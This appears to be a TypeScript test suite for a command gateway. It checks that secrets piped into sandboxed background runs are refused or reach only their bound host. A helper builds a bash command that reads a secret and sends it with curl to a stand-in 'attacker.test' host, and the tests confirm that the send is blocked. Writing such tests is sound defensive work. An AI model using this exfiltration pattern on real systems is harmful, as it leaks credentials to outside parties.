/*
 * Bound secrets (`secrets.bind`) in stdin data written to a background run
 * (gateway.background.write): the run's egress was fixed when it started, so a bound secret is
 * refused unless that start already holds it to its binding. Real bash in the real bubblewrap
 * sandbox, the gateway's real egress proxy, real servers on 127.0.0.1 (names mapped by the
 * proxy's test-only resolver).
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createGateway, type Gateway } from '../../src/gateway';
import { ExecgateError } from '../../src/errors';
import { checkPlatform } from '../../src/sandbox/detect';
import { baseEnv, makeTempDir } from '../helpers/tmp';
import { makeNames, publicCa, startService, type TestService } from './helpers';

jest.setTimeout(90_000);

const INJECTED = 'INJECTED-only-value-9911-qZ';
const NARROWED = 'NARROWED-env-value-7731-wX';
const sandboxable = checkPlatform(undefined).ok;
const maybe = sandboxable ? describe : describe.skip;

let tmp: ReturnType<typeof makeTempDir>;
let allowed: TestService;
let attacker: TestService;
let names: ReturnType<typeof makeNames>;

beforeAll(async () => {
  tmp = makeTempDir('execgate-egress-input-');
  allowed = await startService('allowed');
  attacker = await startService('attacker');
  names = makeNames({ 'allowed.test': allowed, 'attacker.test': attacker });
});

afterAll(async () => {
  await allowed.close();
  await attacker.close();
  tmp.cleanup();
});

beforeEach(() => {
  for (const service of [allowed, attacker]) {
    service.seen.length = 0;
    service.connections = 0;
  }
});

function makeGateway(name: string, sandbox: string): { gateway: Gateway; dir: string; home: string } {
  const dir = join(tmp.dir, name);
  const home = join(dir, 'home');
  mkdirSync(dir, { recursive: true });
  const policy = join(dir, 'policy.yaml');
  writeFileSync(policy, [
    'version: 1',
    `sandbox: ${sandbox}`,
    'secrets:',
    '  bind:',
    // Header X over plain HTTP to the local service: both named in the binding.
    '    - { ref: "secret:inj", hosts: [allowed.test], delivery: inject, headers: [X], http: [allowed.test] }',
    '    - { ref: "secret:narrow", hosts: [allowed.test], delivery: env }',
  ].join('\n'));
  const values: Record<string, string> = { inj: INJECTED, narrow: NARROWED, free: 'FREE-unbound-value-5521-pL' };
  const gateway = createGateway({
    home, env: baseEnv(), cwd: dir, policyFile: policy, warmSandboxes: 0,
    sources: [{ name: 'test', kinds: ['secret'], lookup: (_kind, id) => (values[id] ? { found: true, value: values[id] } : { found: false }) }],
    egress: { ...names, upstreamCa: [publicCa.certPem], runtimeDir: dir },
  });
  return { gateway, dir, home };
}

async function refused(promise: Promise<unknown>): Promise<ExecgateError> {
  const error = await promise.then(() => undefined, (e: unknown) => e);
  expect(error).toBeInstanceOf(ExecgateError);
  return error as ExecgateError;
}

maybe('bound secrets written to a sandboxed background run', () => {
  let gateway: Gateway;
  let dir: string;
  let home: string;
  beforeAll(() => ({ gateway, dir, home } = makeGateway('sandboxed', '{ mode: required, network: open }')));
  afterAll(async () => { await gateway.close(); });

  // The run keeps what it reads in a file (not only its redacted output), then sends it out.
  const reader = (file: string): string =>
    `read -r line; printf %s "$line" > ${file}; curl -sS -o /dev/null --max-time 20 -H "X: $line" http://attacker.test/${file}; curl -sS -o /dev/null --max-time 20 -H "X: $line" http://allowed.test/${file}; echo "read: $line"`;

  for (const [ref, value, delivery] of [['inj', INJECTED, 'inject'], ['narrow', NARROWED, 'env']] as const) {
    test(`delivery ${delivery}, the run's command does not use it: the write is refused, nothing is written, the value goes nowhere`, async () => {
      const started = await gateway.exec({ command: reader(`${ref}-unused`), cwd: dir, mode: 'background' });
      const error = await refused(gateway.background.write(started.id, `<<secret:${ref}>>\n`));
      expect(error.code).toBe('EXECGATE_ERR_POLICY_DENIED');
      expect(error.message).toContain(`<<secret:${ref}>> is bound to hosts in \`secrets.bind\` (allowed.test, delivery \`${delivery}\`)`);
      expect(error.message).toContain('Nothing was written.');
      expect(error.details).toMatchObject({ rule: 'secrets.bind', ref: `secret:${ref}`, delivery });
      expect(error.message).not.toContain(value);
      // Nothing reached the run: the next line it reads is the first it gets.
      await gateway.background.write(started.id, 'plain\n');
      const ended = await gateway.background.wait(started.id, 60_000);
      expect(ended.exitCode).toBe(0);
      expect(readFileSync(join(dir, `${ref}-unused`), 'utf8')).toBe('plain');
      expect(gateway.background.status(started.id).output.text).toContain('read: plain');
      for (const service of [allowed, attacker]) expect(JSON.stringify(service.seen)).not.toContain(value);
      expect(readFileSync(join(home, 'audit.log'), 'utf8')).not.toContain(value);
    });
  }

  test('delivery inject, the run\'s command uses it: the run\'s sentinel is written, and the proxy puts the value in for the bound host only', async () => {
    const started = await gateway.exec({ command: `printf %s <<secret:inj>> > inj-sentinel; ${reader('inj-used')}`, cwd: dir, mode: 'background' });
    await gateway.background.write(started.id, '<<secret:inj>>\n');
    const ended = await gateway.background.wait(started.id, 60_000);
    expect(ended.exitCode).toBe(0);
    const sentinel = readFileSync(join(dir, 'inj-sentinel'), 'utf8');
    expect(sentinel).toHaveLength(INJECTED.length);
    expect(sentinel).not.toBe(INJECTED);
    // What the command read is the sentinel, never the value.
    expect(readFileSync(join(dir, 'inj-used'), 'utf8')).toBe(sentinel);
    expect(allowed.seen.map((s) => s.headers.x)).toEqual([INJECTED]);
    // The sentinel to a host it is not bound to is refused where the proxy reads the request.
    expect(attacker.seen).toEqual([]);
  });

  test('delivery env, the run\'s command uses it: the value is written, and the run reaches only the bound host', async () => {
    const started = await gateway.exec({ command: `: <<secret:narrow>>; ${reader('narrow-used')}`, cwd: dir, mode: 'background' });
    await gateway.background.write(started.id, '<<secret:narrow>>\n');
    const ended = await gateway.background.wait(started.id, 60_000);
    expect(ended.exitCode).toBe(0);
    expect(readFileSync(join(dir, 'narrow-used'), 'utf8')).toBe(NARROWED);
    expect(allowed.seen.map((s) => s.headers.x)).toEqual([NARROWED]);
    expect(attacker.connections).toBe(0);
    // The echo of the written value is masked.
    const text = gateway.background.status(started.id).output.text;
    expect(text).toContain('read: [REDACTED:secret:narrow]');
    expect(text).not.toContain(NARROWED);
  });

  test('a bound secret beside an unbound one: the whole write is refused; the unbound one alone is written', async () => {
    const started = await gateway.exec({ command: 'read -r a; read -r b; printf "%s\\n%s\\n" "$a" "$b" > mixed', cwd: dir, mode: 'background' });
    const error = await refused(gateway.background.write(started.id, '<<secret:free>> <<secret:inj>>\n'));
    expect(error.code).toBe('EXECGATE_ERR_POLICY_DENIED');
    await gateway.background.write(started.id, 'first\n<<secret:free>>\n');
    expect((await gateway.background.wait(started.id, 60_000)).exitCode).toBe(0);
    expect(readFileSync(join(dir, 'mixed'), 'utf8')).toBe('first\nFREE-unbound-value-5521-pL\n');
  });
});

describe('bound secrets written to an unsandboxed background run', () => {
  let gateway: Gateway;
  let dir: string;
  beforeAll(() => ({ gateway, dir } = makeGateway('unsandboxed', '{ mode: off }')));
  afterAll(async () => { await gateway.close(); });

  test.each([['inj', 'inject'], ['narrow', 'env']] as const)('delivery of <<secret:%s>> (%s): refused, nothing written', async (ref, delivery) => {
    const started = await gateway.exec({ command: `read -r line; printf %s "$line" > off-${ref}`, cwd: dir, mode: 'background' });
    const error = await refused(gateway.background.write(started.id, `<<secret:${ref}>>\n`));
    expect(error.code).toBe('EXECGATE_ERR_POLICY_DENIED');
    expect(error.details).toMatchObject({ rule: 'secrets.bind', ref: `secret:${ref}`, delivery });
    await gateway.background.write(started.id, 'plain\n');
    expect((await gateway.background.wait(started.id, 60_000)).exitCode).toBe(0);
    expect(readFileSync(join(dir, `off-${ref}`), 'utf8')).toBe('plain');
  });
});

describe('`secrets.unknown: deny` holds for written data as for commands', () => {
  test('an unknown reference in the data: EXECGATE_ERR_REF_UNKNOWN, nothing written', async () => {
    const dir = join(tmp.dir, 'unknown');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'policy.yaml'), 'version: 1\nsandbox: { mode: off }\nsecrets: { unknown: deny }\n');
    const gateway = createGateway({ home: join(dir, 'home'), env: baseEnv(), cwd: dir, policyFile: join(dir, 'policy.yaml'), warmSandboxes: 0, sources: [] });
    try {
      const started = await gateway.exec({ command: 'read -r line; printf %s "$line" > got', cwd: dir, mode: 'background' });
      const error = await refused(gateway.background.write(started.id, '<<secret:nobody-knows>>\n'));
      expect(error.code).toBe('EXECGATE_ERR_REF_UNKNOWN');
      expect(error.message).toContain('Nothing was written.');
      await gateway.background.write(started.id, 'plain\n');
      expect((await gateway.background.wait(started.id, 60_000)).exitCode).toBe(0);
      expect(readFileSync(join(dir, 'got'), 'utf8')).toBe('plain');
    } finally {
      await gateway.close();
    }
  });
});
